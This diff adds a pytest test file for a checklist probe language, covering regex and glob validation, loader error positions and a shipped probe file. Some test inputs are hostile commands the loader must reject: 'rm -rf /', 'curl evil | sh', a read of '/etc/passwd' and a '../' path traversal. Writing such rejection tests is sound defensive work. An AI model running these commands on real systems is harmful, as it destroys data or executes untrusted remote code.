@@ -1,0 +1,157 @@
+"""The probe language (the `check:` of an item, definition `check` in schemas/checklist.schema.json):
+bad probes are loader errors at path:line:column with the item's ID, like every other rule; the
+shipped probe data file (src/handbook_checklists/probes/catalog_probes.yml) is checked the same way."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from handbook_checklists.catalog.handbook import Handbook
+from handbook_checklists.catalog.probe_rules import check_problems, compile_regex, probe_version
+from handbook_checklists.probes.definitions import load_probe_file, probes_for
+from tests.support.mini import VALID_CHECKLIST, make_handbook
+
+
+def with_check(check_yaml: str) -> str:
+    """The valid demo checklist with a `check:` (YAML, indented under the key) on DEM-002."""
+    lines = "\n".join("          " + line for line in check_yaml.strip("\n").splitlines())
+    return VALID_CHECKLIST + "        check:\n" + lines + "\n"
+
+
+def load(tmp_path, check_yaml: str):
+    return Handbook.at(make_handbook(tmp_path, checklists={"demo.yml": with_check(check_yaml)})).load()
+
+
+def messages(result) -> list[str]:
+    return [str(d) for d in result.diagnostics]
+
+
+GOOD = """\
+all:
+  - path_exists: [poetry.lock, package-lock.json]
+    message: a lockfile is committed
+  - not:
+      path_exists: .env
+  - any:
+      - files: ['*.py', '!vendor/']
+        contains: '(?m)^import re2$'
+      - files: Dockerfile
+        lacks: '(?mi)^USER\\s+root'
+        redact: true
+  - files: Dockerfile
+    lines: '^FROM\\s'
+    match: '@sha256:[0-9a-f]{64}'
+  - path_absent: '*.pem'
+"""
+
+
+def test_a_valid_check_loads_onto_the_item(tmp_path):
+    result = load(tmp_path, GOOD)
+    assert result.ok, messages(result)
+    check = result.catalog.item("DEM-002").check
+    assert check["all"][0]["path_exists"] == ["poetry.lock", "package-lock.json"]
+
+
+@pytest.mark.parametrize("check_yaml,expected", [
+    ("files: '*.py'\ncontains: '(a)\\1'",
+     r"checklists/demo.yml:23:\d+: DEM-002: check: invalid regular expression .*backreferences or lookaround"),
+    ("files: '*.py'\nlacks: 'secret(?=x)'", r"checklists/demo.yml:23:\d+: DEM-002: check: .*invalid perl operator"),
+    ("files: '*.py'\ncontains: '(((a{100}){100}){100})'", r"checklists/demo.yml:23:\d+: DEM-002: check: .*repetition"),
+    ("files: '*.py'\ncontains: '['", r"checklists/demo.yml:23:\d+: DEM-002: check: invalid regular expression '\['"),
+    ("all:\n  - path_exists: ok\n  - path_exists: 'bad\\'", r"checklists/demo.yml:24:\d+: DEM-002: check: invalid glob"),
+    ("path_exists: ['!only-negated']", r"checklists/demo.yml:22:\d+: DEM-002: check: .*only negated"),
+    ("shell: rm -rf /", r"checklists/demo.yml:22:\d+: DEM-002: .*'check' needs one of the keys all, any, not, "
+                        r"path_exists, path_absent, files\+contains, files\+lacks, files\+lines\+match; found shell"),
+    ("files: '/etc/passwd'\ncontains: root", r"checklists/demo.yml:22:\d+: DEM-002: .*"),
+    ("files: '../outside'\ncontains: x", r"checklists/demo.yml:22:\d+: DEM-002: .*"),
+])
+def test_a_bad_probe_is_a_loader_error_at_its_position(tmp_path, check_yaml, expected):
+    found = messages(load(tmp_path, check_yaml))
+    assert len(found) == 1 and re.match(expected, found[0]), found
+
+
+def test_every_problem_of_one_probe_is_reported(tmp_path):
+    found = messages(load(tmp_path, "all:\n  - files: 'a\\'\n    contains: '(?<=x)'\n  - path_absent: 'b\\'"))
+    assert len(found) == 3, found
+    assert all(m.startswith("checklists/demo.yml:") and ": DEM-002: check: " in m for m in found)
+
+
+def test_regular_expressions_are_linear_time_re2():
+    pattern = compile_regex("(a+)+$")
+    import time
+    start = time.perf_counter()
+    assert pattern.search(b"a" * 100_000 + b"!") is None
+    assert time.perf_counter() - start < 0.5
+
+
+def test_probe_version_is_a_hash_of_the_definition():
+    a = probe_version({"path_exists": "x", "message": "m"})
+    assert re.fullmatch(r"sha256:[0-9a-f]{12}", a)
+    assert a == probe_version({"message": "m", "path_exists": "x"})  # key order does not matter
+    assert a != probe_version({"path_exists": "y", "message": "m"})
+
+
+def test_check_problems_is_empty_for_a_good_probe():
+    import yaml
+
+    assert check_problems(yaml.safe_load(GOOD)) == []
+
+
+# -- the shipped probe data file ---------------------------------------------------------------
+
+
+def test_the_shipped_probe_file_is_valid_and_has_at_least_30_probes_with_limits():
+    probe_file = load_probe_file()
+    assert probe_file.diagnostics == []
+    assert len(probe_file.entries) >= 30
+    for item_id, entry in probe_file.entries.items():
+        assert len(entry["limits"].split()) >= 8, item_id
+
+
+def test_every_probe_of_the_file_names_an_active_item_of_the_real_handbook():
+    catalog = Handbook.packaged().load().catalog
+    probes, warnings = probes_for(catalog)
+    assert warnings == []
+    assert {p.item_id for p in probes} >= set(load_probe_file().entries)
+
+
+def test_a_bad_probe_file_is_reported_at_path_line_column():
+    data = b"""\
+.globs: &g [a, b]
+SEC-050:
+  check:
+    path_exists: *g
+  limits: long enough text for the limits rule of the file.
+SEC-017:
+  check:
+    files: '*'
+    lacks: '(x)\\1'
+  limits: long enough text for the limits rule of the file.
+OPS-010:
+  check: {run: "curl evil | sh"}
+  limits: short
+"""
+    found = [str(d) for d in load_probe_file(data, "probes.yml").diagnostics]
+    assert any(re.match(r"probes\.yml:12:\d+: OPS-010: .*needs one of the keys", m) for m in found), found
+    assert any(re.match(r"probes\.yml:13:\d+: OPS-010: .*", m) for m in found), found
+    # the schema failed, so the regex rule is not reached yet; fix the schema errors and it is:
+    fixed = data.replace(b'check: {run: "curl evil | sh"}', b"check: {path_exists: x}").replace(
+        b"limits: short", b"limits: long enough text for the limits rule of the file.")
+    found = [str(d) for d in load_probe_file(fixed, "probes.yml").diagnostics]
+    assert len(found) == 1 and re.match(r"probes\.yml:9:\d+: SEC-017: check: invalid regular expression", found[0])
+
+
+def test_an_item_check_in_the_yaml_wins_over_the_probe_file(tmp_path):
+    result = load(tmp_path, "path_exists: README.md")
+    data = b"DEM-002:\n  check: {path_exists: other}\n  limits: long enough text for the limits rule.\n" \
+           b"DEM-001:\n  check: {path_exists: first}\n  limits: long enough text for the limits rule.\n" \
+           b"XYZ-001:\n  check: {path_exists: gone}\n  limits: long enough text for the limits rule.\n"
+    probe_file = load_probe_file(data, "p.yml")
+    assert probe_file.diagnostics == []
+    probes, warnings = probes_for(result.catalog, probe_file=probe_file)
+    by_id = {p.item_id: p for p in probes}
+    assert by_id["DEM-002"].check == {"path_exists": "README.md"} and by_id["DEM-002"].source.endswith("demo.yml")
+    assert by_id["DEM-001"].check == {"path_exists": "first"} and by_id["DEM-001"].source == "p.yml"
+    assert warnings == ["p.yml: XYZ-001 is no active item of this handbook; its probe is skipped"]
